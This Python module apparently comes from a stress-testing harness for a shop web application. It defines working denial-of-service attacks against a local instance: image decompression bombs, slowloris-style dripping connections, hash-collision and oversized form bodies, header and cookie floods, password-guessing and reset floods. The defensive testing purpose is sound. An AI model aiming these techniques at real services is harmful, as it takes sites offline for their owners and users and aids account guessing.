"""The attacks: each a name, and how to make one request of it, or one connection that is held."""

import random
import threading
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass

from .bodies import avif_of_megapixels, jpeg_of_many_scans, multipart, png_bomb
from .runner import PRODUCT, counted
from .shop import MEMBER, PASSWORD, SELLER
from .visitor import FORM, Visitor

RATE = 10  # requests a second
MOST_AT_ONCE = 64
REVIEWS = f"{PRODUCT}reviews/"
SCRIPTS = [(0x61, 26), (0x430, 32), (0x3B1, 24), (0x5D0, 27), (0x627, 28), (0x4E00, 20_000), (0xAC00, 11_000)]


@dataclass
class Attack:
    """prepare(shop, visitor) returns a function that attacks for some seconds and returns the answers."""

    name: str
    prepare: Callable
    seconds: float | None = None


def requests(name, make, rate=RATE, seconds=None):
    """An attack by requests: make(visitor) returns a function that sends one, given its number."""

    def prepare(shop, visitor):
        send = make(visitor)

        def attack(seconds):
            with ThreadPoolExecutor(MOST_AT_ONCE) as pool:
                return counted(pool, send, rate, seconds)

        return attack

    return Attack(name, prepare, seconds)


def connections(name, number, drip):
    """An attack by connections that are held: drip(socket) sends a little, twice a second."""

    def prepare(shop, visitor):
        def hold(until):
            with suppress(OSError), shop.connect(visitor.address, 10) as held:
                while time.monotonic() < until:
                    drip(held)
                    time.sleep(0.5)
                return "held to the end"
            return "closed by the shop"

        def attack(seconds):
            until = time.monotonic() + seconds
            with ThreadPoolExecutor(number) as pool:
                return dict(Counter(pool.map(hold, [until] * number)))

        return attack

    return Attack(name, prepare)


def nothing(shop, visitor):
    def attack(seconds):
        time.sleep(seconds)
        return {}

    return attack


def hang_the_database(shop, visitor):
    def attack(seconds):
        shop.database.pause()
        try:
            time.sleep(seconds)
        finally:
            shop.database.resume()
        return {}

    return attack


def review_with(name, picture):
    def make(visitor):
        visitor.open_form()
        content = picture()
        fields = {"rating": 5, "title": "Good", "text": "It pours well.", "author_name": "Ada"}
        body, kind = multipart(fields, [("photos", f"{n}-{name}", content) for n in range(4)])
        return lambda number: visitor.send(REVIEWS, body, kind)

    return make


def review_of(text, signed_in):
    def make(visitor):
        if signed_in:
            visitor.sign_in(MEMBER, PASSWORD)
        else:
            visitor.open_form()
        fields = {"rating": 5, "title": "Good", "text": text, "author_name": "Ada"}
        return lambda number: visitor.post(REVIEWS, fields)

    return make


def upload_of(name, picture):
    def make(visitor):
        visitor.sign_in(SELLER, PASSWORD)
        body, kind = multipart({}, [("pictures", name, picture())])
        return lambda number: visitor.send("/sell/uploads/", body, kind)

    return make


def markdown_table(visitor):
    visitor.sign_in(SELLER, PASSWORD)
    row = "|" + "|" * 1500 + "\n"
    text = row + "|" + "-|" * 1500 + "\n" + "|\n" * 14_000
    return lambda number: visitor.post("/sell/markdown/", {"description": text})


def import_of_backslashes(visitor):
    visitor.sign_in(SELLER, PASSWORD)
    cell = "Size: " + r"\a" * 27
    table = f"title,category,price,stock,details\nBowl,decor,10,1,{cell}\n"
    body, kind = multipart({}, [("table", "products.csv", table.encode())])

    def send(number):
        status, _ = visitor.ask("POST", "/sell/import/", body, {"Content-Type": kind})
        return status if status != "302" else visitor.get(f"/sell/import/{number + 1}/")

    return send


def gets(address):
    """Requests for address(random.Random, number)."""

    def make(visitor):
        return lambda number: visitor.get(address(random.Random(number), number))

    return make


def letters(chance, count):
    return "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=count))


def words_of_nothing(chance, number):
    return f"/products/?q={letters(chance, 9)}+{letters(chance, 7)}"


def many_words(chance, number):
    return "/products/?q=" + "+".join(letters(chance, 4) for _ in range(40))


def beginnings(chance, number):
    start, count = chance.choice(SCRIPTS)
    return "/suggestions/?q=" + "".join(
        f"%{byte:02x}" for n in range(3) for byte in chr(start + chance.randrange(count)).encode()
    )


def long_address(chance, number):
    return f"/products/?q={letters(chance, 20)}&sort=price&" + letters(chance, 6000)


def one_of_many_addresses(chance, number):
    choices = {
        "price_min": chance.randrange(1, 300),
        "price_max": chance.randrange(300, 900),
        "rating": chance.choice(["", "3", "4"]),
        "in_stock": chance.choice(["", "1"]),
        "sort": chance.choice(["", "price", "-price", "name", "rating"]),
        "page": chance.choice(["", "2", "3"]),
    }
    names = chance.sample(sorted(choices), chance.randrange(1, 4))
    return "/products/?" + "&".join(f"{name}={choices[name]}" for name in names)


def crowd(visitor):
    """Three thousand addresses, each with one to three pages of filters."""

    def send(number):
        chance = random.Random(number)
        member = number // 2 % 3000
        somebody = Visitor(visitor.shop, f"127.1.{member // 250}.{member % 250 + 1}")
        return somebody.get(one_of_many_addresses(chance, number))

    return send


def resets(visitor):
    visitor.open_form()
    return lambda number: visitor.post("/accounts/password/reset/", {"email": f"nobody-{number}@example.com"})


def sign_ins(visitor):
    visitor.open_form()
    return lambda number: visitor.post(
        "/accounts/login/", {"login": f"nobody-{number}@example.com", "password": "a-guess-of-mine"}
    )


def many_fields(visitor):
    visitor.open_form()
    body = "&".join(f"f{number}=" for number in range(400_000))
    return lambda number: visitor.send("/accounts/login/", body, FORM)


def fields_of_one_hash(visitor):
    """Whole numbers that a table of 2^61-1 puts into one place, as JSON and as names."""
    visitor.open_form()
    body = "&".join(f"{number * (2**61 - 1)}=1" for number in range(2000))
    return lambda number: visitor.send("/accounts/login/", body, FORM)


def many_cookies(visitor):
    visitor.cookies = {f"c{number}": "x" for number in range(3000)}
    return lambda number: visitor.get(PRODUCT)


def many_headers(visitor):
    headers = {f"X-{number}": "x" for number in range(90)}
    return lambda number: visitor.get(PRODUCT, **headers)


def head(method, path, length):
    lines = [
        f"{method} {path} HTTP/1.1",
        "Host: 127.0.0.1",
        "X-Forwarded-Proto: https",
        f"Content-Type: {FORM}",
    ]
    return "\r\n".join([*lines, f"Content-Length: {length}", ""]).encode()


def slow_body():
    begun = set()

    def drip(held):
        held.sendall(b"x" if held in begun else head("POST", "/accounts/login/", 1_000_000) + b"\r\n")
        begun.add(held)

    return drip


def slow_head():
    begun = set()

    def drip(held):
        held.sendall(b"X-A: b\r\n" if held in begun else head("GET", PRODUCT, 0))
        begun.add(held)

    return drip


def silent_after_the_head(held):
    """Announce a form, and never send it."""
    if not getattr(held, "timeout_was_set", False):
        held.sendall(head("POST", REVIEWS, 1_000_000) + b"\r\n")
        held.settimeout(60)
    threading.Event().wait(60)


ATTACKS = [
    Attack("nothing", nothing),
    requests("reviews with JPEGs of 500 scans, signed out", review_with("a.jpg", jpeg_of_many_scans)),
    requests("reviews with AVIFs of 49 megapixels, signed out", review_with("a.avif", avif_of_megapixels)),
    requests("reviews with PNGs of 400 megapixels, signed out", review_with("a.png", png_bomb)),
    requests("reviews of 4,000 @, signed out", review_of("@" * 4000, False)),
    requests("reviews of 4,000 @, signed in", review_of("@" * 4000, True)),
    requests("a seller's uploads of JPEGs of 500 scans", upload_of("a.jpg", jpeg_of_many_scans)),
    requests("a seller's uploads of AVIFs of 49 megapixels", upload_of("a.avif", avif_of_megapixels)),
    requests("a seller's imports with a cell of backslashes", import_of_backslashes),
    requests("a seller's previews of a table of 31 kB", markdown_table),
    requests("searches without a result", gets(words_of_nothing)),
    requests("searches of 40 words", gets(many_words)),
    requests("suggestions in any script", gets(beginnings)),
    requests("addresses of 6,000 letters", gets(long_address)),
    requests("filters in any combination", gets(one_of_many_addresses)),
    requests("the same from 3,000 addresses, 30 a second", crowd, rate=30),
    requests("sign-ins with wrong passwords", sign_ins),
    requests("resets, while the mail server says nothing", resets),
    requests("forms of 400,000 fields", many_fields),
    requests("forms of 2,000 fields of one hash", fields_of_one_hash),
    requests("3,000 cookies", many_cookies),
    requests("90 headers", many_headers),
    connections("24 forms that drip", 24, slow_body()),
    connections("100 heads that drip", 100, slow_head()),
    Attack("a database that hangs", hang_the_database),
]
